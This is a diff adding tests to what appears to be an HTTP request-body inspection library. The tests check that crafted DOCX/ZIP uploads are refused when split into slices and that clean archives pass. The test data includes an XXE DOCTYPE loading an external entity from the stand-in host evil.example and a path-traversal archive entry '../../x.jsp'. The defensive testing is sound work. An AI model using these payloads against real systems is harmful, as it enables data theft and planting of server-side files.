@@ -1,5 +1,7 @@
 import assert from 'node:assert/strict'
+import { randomBytes } from 'node:crypto'
 import { describe, test } from 'node:test'
+import { deflateRawSync } from 'node:zlib'
 import type { Refusal } from '@postern/core'
 import { restReader } from '../src/body/rest-reader.ts'
 import { DEFAULT_BOUNDS } from '../src/bounds/bounds.ts'
@@ -206,5 +208,55 @@ describe('the rest of a body in slices', () => {
     assert.equal(answers[0], undefined)
     assert.equal(answers.at(-1), REFUSAL)
     assert.equal(startUp.left, 0)
+  })
+})
+
+describe('an archive that goes by', () => {
+  const entry = (name: string, content: Buffer): Buffer => {
+    const head = Buffer.alloc(30)
+    head.write('PK\u0003\u0004', 'latin1')
+    head.writeUInt16LE(8, 8)
+    head.writeUInt16LE(name.length, 26)
+    return Buffer.concat([head, Buffer.from(name), deflateRawSync(content)])
+  }
+  const picture = entry('word/media/image1.jpeg', randomBytes(200_000))
+  const end = Buffer.from(`PK\u0005\u0006${'\0'.repeat(18)}`, 'latin1')
+  const types = (prolog: string): Buffer =>
+    entry('[Content_Types].xml', Buffer.from(`<?xml version="1.0"?>${prolog}<Types>${PADDING}</Types>`))
+  const upload = (archive: Buffer): Buffer =>
+    Buffer.concat([
+      Buffer.from('--bb\r\nContent-Disposition: form-data; name="f"; filename="a.docx"\r\n\r\n'),
+      archive,
+      Buffer.from('\r\n--bb--\r\n'),
+    ])
+  const XXE = '<!DOCTYPE a [<!ENTITY % b SYSTEM "https://evil.example/x.dtd">%b;]>'
+  const honest = Buffer.concat([picture, types(''), entry('word/document.xml', Buffer.from('<a/>')), end])
+
+  test('is read entry by entry, however the pieces fall', async () => {
+    for (const late of [types(XXE), entry('../../x.jsp', Buffer.from('x'))]) {
+      const archive = Buffer.concat([picture, late, entry('b.txt', Buffer.from(PADDING)), picture, end])
+      for (const pieces of [97, 1_400, 65_536])
+        for (const [type, body] of [
+          [MULTIPART, upload(archive)],
+          ['application/zip', archive],
+        ] as const)
+          assert.ok((await cutAt(type, body, 50_000, pieces)) !== undefined, `${type} ${pieces}`)
+    }
+  })
+
+  test('is taken for one with the first of its bytes', async () => {
+    const body = upload(Buffer.concat([picture, types(XXE), end]))
+    const start = body.indexOf('PK')
+    for (const limit of [start, start + 1, start + 3])
+      assert.ok((await cutAt(MULTIPART, body, limit, 65_536)) !== undefined, String(limit - start))
+  })
+
+  test('and other files, pass where they are honest', async () => {
+    for (const pieces of [97, 65_536]) {
+      assert.equal(await cutAt(MULTIPART, upload(honest), 50_000, pieces), undefined)
+      assert.equal(await cutAt('application/zip', honest, 50_000, pieces), undefined)
+    }
+    const other = Buffer.concat([Buffer.from('\u0089PNG', 'latin1'), types(XXE)])
+    assert.equal(await cutAt(MULTIPART, upload(other), 80, 97), undefined)
   })
 })
